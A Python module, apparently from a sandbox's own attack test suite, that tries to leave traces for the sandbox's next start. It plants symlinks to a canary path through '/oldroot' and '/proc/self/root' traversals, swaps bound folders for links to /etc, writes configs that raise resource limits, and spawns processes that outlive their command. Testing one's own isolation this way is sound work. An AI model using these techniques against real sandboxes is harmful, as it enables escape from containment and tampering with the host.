"""Group I: what a box leaves behind for its own next start, or for whoever gets its name.

Arguments name the canary. Nothing here leaves the box's tree but through links.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from ringfence.prove.attacks.trying import Outcomes, Place, each

# What a start makes in a box, by every name; a link of that name in a tree is what CVE-2026-87766 needs.
NAMES = [
    ".local",
    ".local/bin",
    ".config",
    ".cache",
    ".ssh",
    ".npm",
    ".cargo",
    "bin",
    "dev",
    "etc",
    "home",
    "home/user",
    "lib",
    "opt",
    "opt/ringfence",
    "proc",
    "run",
    "sys",
    "tmp",
    "user",
    "usr",
    "var",
    "workspace",
    "made",
    "ringfence",
    "source",
    "ctl",
]
TREES = ("/home/user", "/workspace", "/tmp")
SETTINGS = '[limits]\nmemory = "64GiB"\npids = 60000\n'
CONFIGS = (
    "ringfence.toml",
    ".ringfence.toml",
    ".config/ringfence/ringfence.toml",
    ".ringfence/config.json",
    "spawner/config.json",
    "run/kernel.json",
)


def set_up_links(place: Place) -> Outcomes:
    """I02. Arguments: the canary folder; where of it, seen from bubblewrap while it sets up."""
    canary = place.arguments[0]
    targets = (
        canary,
        f"/oldroot{canary}",
        f"../../../../oldroot{canary}",
        f"/proc/self/root{canary}",
        f"/newroot/..{canary}",
    )
    for number, tree in enumerate(TREES):
        for turn, name in enumerate(NAMES):
            path = Path(f"{tree}/{name}")
            if os.path.lexists(path) or not path.parent.is_dir() or path.parent.is_symlink():
                continue
            path.symlink_to(targets[(turn + number) % len(targets)])
    return {"planted": "ready"}


def unplant(place: Place) -> Outcomes:
    for tree in TREES:
        for name in NAMES:
            if Path(f"{tree}/{name}").is_symlink():
                os.unlink(f"{tree}/{name}")
    return {"planted": "gone"}


def roots(place: Place) -> Outcomes:
    """I03: the bound folders themselves, exchanged for links. Arguments: of a control, a folder to do it in."""
    trees: tuple[str, ...] = TREES
    if place.arguments:
        folder = Path(place.arguments[0]) / f"roots-{os.getpid()}"
        (folder / "home").mkdir(parents=True)
        trees = (str(folder / "home"),)
    told: Outcomes = {}
    for tree in trees:
        told |= each(**{f"rename {tree}": lambda tree=tree: _exchange(tree)})
    if place.arguments:
        os.unlink(trees[0])
        os.rmdir(f"{trees[0]}.aside")
        os.rmdir(os.path.dirname(trees[0]))
    return told


def _exchange(tree: str) -> None:
    os.rename(tree, f"{tree}.aside")
    os.symlink("/etc", tree)


def settings(place: Place) -> Outcomes:
    """I04."""
    for tree in TREES:
        for name in CONFIGS:
            path = Path(f"{tree}/{name}")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(SETTINGS)
    return {"planted": "ready"}


def stay(place: Place) -> Outcomes:
    """I05: processes that outlive their command, each in another way. They end after five minutes in any case."""
    words = ["sleep", "300"]
    null = subprocess.DEVNULL
    for options in ({"start_new_session": True}, {"process_group": 0}, {}):
        subprocess.Popen(words, stdin=null, stdout=null, stderr=null, **options)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 3)
            os.execv("/bin/sleep", words)
        os._exit(0)
    return {"stay": "ready"}


ATTACKS = {
    "set_up_links": set_up_links,
    "unplant": unplant,
    "roots": roots,
    "settings": settings,
    "stay": stay,
}
